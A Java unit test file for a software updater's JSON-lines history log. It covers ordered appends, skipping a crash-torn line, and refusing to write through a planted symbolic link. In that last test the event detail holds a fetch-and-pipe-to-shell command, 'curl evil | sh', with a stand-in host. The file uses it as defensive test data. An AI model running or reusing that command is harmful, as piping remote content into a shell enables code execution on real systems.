package dev.updater.core.home;

import dev.updater.core.ErrorCode;
import dev.updater.core.UpdaterException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.FileTime;
import java.time.Instant;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

class HistoryTest {
    @TempDir
    Path dir;

    @Test
    void append_writesOneJsonObjectPerLine_andReadReturnsThemInOrder() throws Exception {
        Path file = dir.resolve("history.jsonl");
        HistoryEvent staged = new HistoryEvent(Instant.parse("2026-02-07T12:00:00Z"), "staged", "1.3.0", null, "ok");
        HistoryEvent installed = new HistoryEvent(Instant.parse("2026-02-07T12:01:00Z"), "installed", "1.3.0", "1.2.0",
                "swapped");
        History.append(file, staged);
        History.append(file, installed);

        assertEquals(2, Files.readAllLines(file).size());
        assertEquals("{\"at\":\"2026-02-07T12:00:00Z\",\"event\":\"staged\",\"version\":\"1.3.0\",\"detail\":\"ok\"}",
                Files.readAllLines(file).get(0));
        assertEquals(List.of(staged, installed), History.read(file));
    }

    @Test
    void read_skipsALineTornByACrash_andKeepsTheOthers() throws Exception {
        Path file = dir.resolve("history.jsonl");
        HistoryEvent first = new HistoryEvent(Instant.parse("2026-02-07T12:00:00Z"), "checked", null, null, "up to date");
        History.append(file, first);
        Files.writeString(file, "{\"at\":\"2026-02-07T12:0", StandardOpenOption.APPEND);
        assertEquals(List.of(first), History.read(file));
        History.append(file, first);
        assertEquals(List.of(first, first), History.read(file), "the event after a torn line starts a line of its own");
    }

    @Test
    void read_missingFile_isEmpty() throws Exception {
        assertEquals(List.of(), History.read(dir.resolve("none.jsonl")));
    }

    @Test
    void append_toASymbolicLinkPlantedAsTheHistory_isRefused_andItsDestinationIsUntouched() throws Exception {
        Path victim = Files.writeString(dir.resolve("bashrc"), "export PATH=/usr/bin\n");
        FileTime before = FileTime.from(Instant.parse("2020-01-01T00:00:00Z"));
        Files.setLastModifiedTime(victim, before);
        Path link = Files.createSymbolicLink(dir.resolve("history.jsonl"), victim);

        UpdaterException e = assertThrows(UpdaterException.class, () -> History.append(link,
                new HistoryEvent(Instant.parse("2026-03-02T09:30:00Z"), "failed", "1.1.0", null, "curl evil | sh")));

        assertEquals(ErrorCode.HOME_INSECURE, e.code());
        assertEquals(link + " is a symbolic link to " + victim + "; the update home's files are plain files, and a"
                + " link could send updater's writes to any file. Nothing was opened through it. Remove it (rm " + link
                + ") and find out who planted it.", e.getMessage());
        assertEquals("export PATH=/usr/bin\n", Files.readString(victim));
        assertEquals(before, Files.getLastModifiedTime(victim));
    }
}
